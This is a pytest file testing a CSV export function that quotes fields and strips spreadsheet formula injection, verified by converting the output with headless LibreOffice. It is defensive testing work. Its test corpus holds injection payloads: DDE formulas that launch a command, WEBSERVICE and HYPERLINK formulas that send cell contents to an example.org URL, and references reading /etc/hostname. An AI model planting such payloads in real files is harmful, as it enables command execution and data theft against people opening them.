"""What a list's lines look like, and that no program takes a cell of them for a formula."""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree
from collections.abc import Sequence
from itertools import product
from pathlib import Path
from typing import Final
from uuid import UUID

import pytest

from service.exports.columns import Column
from service.exports.csv_lines import FORMULA, header, line, without_formula

EXPORT: Final = UUID("01990000-0000-7000-8000-000000000001")
NAMED: Final = (Column.NUMBER, Column.NAME, Column.POSTAL_ADDRESS, Column.MOBILE)

TABLE: Final = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT: Final = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"

needs_libreoffice = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is not installed: no spreadsheet opens the list"
)

FORMULAS: Final = (
    "1+1",
    'HYPERLINK("https://example.org/?"&A1,"Click here")',
    'WEBSERVICE("https://example.org/?"&A1)',
    "cmd|' /C calc'!A0",
    'DDE("soffice","/etc/hostname","a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "'file:///etc/hostname'#$Sheet1.A1",
    '"&1+1&"',
)
BEFORE: Final = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\0",
    '"',
    "\ufeff",
    "\u200b",
    "\u00a0",
    "x\n",
    "x\r\n",
    "x;",
    "x,",
    "x\t",
    'x;"',
)
"""What is put before a sign, to hide that it comes first, or to begin a cell of its own."""


def corpus() -> list[str]:
    return [f"{before}{sign}{formula}" for before, sign, formula in product(BEFORE, FORMULA, FORMULAS)]


def the_file(cells: Sequence[str]) -> bytes:
    rows = [line(NAMED, {Column.NUMBER: "A", Column.NAME: cell}, EXPORT) for cell in cells]
    return header(NAMED) + b"".join(rows)


def test_every_field_is_quoted_and_each_line_says_which_list_it_is_from() -> None:
    values = {
        Column.NUMBER: "7KPM-2QXA",
        Column.NAME: 'Siân "Sal" Ŵyn, Esq.',
        Column.POSTAL_ADDRESS: "1 Example Street\nCardiff\nCF10 1AA",
        Column.MOBILE: "+447700900123",
        Column.EMAIL: "not.asked.for@example.com",
    }
    written = header(NAMED) + line(NAMED, values, EXPORT)
    assert (
        written
        == (
            '"number","name","postal_address","mobile","export"\r\n'
            '"7KPM-2QXA","Siân ""Sal"" Ŵyn, Esq.","1 Example Street\nCardiff\nCF10 1AA","(+44) 7700 900123",'
            f'"{EXPORT}"\r\n'
        ).encode()
    )
    assert [len(row) for row in csv.reader(io.StringIO(written.decode(), newline=""))] == [5, 5]


@pytest.mark.parametrize(
    ("e164", "written"), [("+353850000000", "(+353) 85 000 0000"), ("+442920180000", "(+44) 29 2018 0000")]
)
def test_a_number_from_elsewhere_begins_with_its_country(e164: str, written: str) -> None:
    assert f'"{written}"'.encode() in line([Column.MOBILE], {Column.MOBILE: e164}, EXPORT)


def test_no_cell_begins_with_a_sign_in_any_country_and_nothing_that_can_be_read_is_lost() -> None:
    for cell in corpus():
        safe = without_formula(cell)
        for part in safe.replace(";", "\n").replace(",", "\n").splitlines():
            assert not part.strip(' \u00a0\u200b"').startswith(tuple(FORMULA)), repr(cell)
        assert safe.replace("'", "").split() == cell.translate({0: " ", 0xFEFF: " "}).replace("'", "").split()
    assert without_formula("Mary-Jane O'Neill + sons; 2 x") == "Mary-Jane O'Neill + sons; 2 x"


@needs_libreoffice
def test_27_libreoffice_evaluates_no_formula(tmp_path: Path) -> None:
    """Opened with the separator that it has, and as a spreadsheet of a country with another one does."""
    cells = corpus()
    (tmp_path / "list.csv").write_bytes(the_file(cells))
    # What the same cells do where nobody minds: without this, no test would show that LibreOffice runs any.
    (tmp_path / "raw.csv").write_text("".join('"' + cell.replace('"', '""') + '"\r\n' for cell in cells))

    as_written = opened(tmp_path, "list", "raw", separator=",")
    elsewhere = opened(tmp_path, "list", "raw", separator=";")

    assert formulas(as_written["raw"]) >= len(FORMULAS)
    assert formulas(elsewhere["raw"]) >= len(FORMULAS)
    assert formulas(elsewhere["list"]) == 0
    assert formulas(as_written["list"]) == 0
    rows = list(csv.reader(io.StringIO(the_file(cells).decode(), newline="")))
    assert texts(as_written["list"]) == rows


def opened(folder: Path, *names: str, separator: str) -> dict[str, ElementTree.Element]:
    """What LibreOffice makes of each CSV file: its own format, as XML."""
    out = folder / f"separator-{ord(separator)}"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            # Separator, quote, UTF-8 (LibreOffice, Filter Options for CSV).
            f"--infilter=CSV:{ord(separator)},34,76",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *(str(folder / f"{name}.csv") for name in names),
        ],
        check=True,
        capture_output=True,
        timeout=100,
    )
    return {name: ElementTree.parse(out / f"{name}.fods").getroot() for name in names}


def formulas(sheet: ElementTree.Element) -> int:
    """How many cells it has that are run."""
    return sum(1 for cell in sheet.iter(f"{TABLE}table-cell") if f"{TABLE}formula" in cell.attrib)


def texts(sheet: ElementTree.Element) -> list[list[str]]:
    """The text of each cell, row by row."""
    return [
        [
            "\n".join(text_of(paragraph) for paragraph in cell.iter(f"{TEXT}p"))
            for cell in row.iter(f"{TABLE}table-cell")
            for _ in range(int(cell.get(f"{TABLE}number-columns-repeated", "1")))
        ]
        for row in sheet.iter(f"{TABLE}table-row")
    ]


def text_of(paragraph: ElementTree.Element) -> str:
    said = paragraph.text or ""
    for part in paragraph:
        said += " " * int(part.get(f"{TEXT}c", "1")) if part.tag == f"{TEXT}s" else text_of(part)
        said += part.tail or ""
    return said
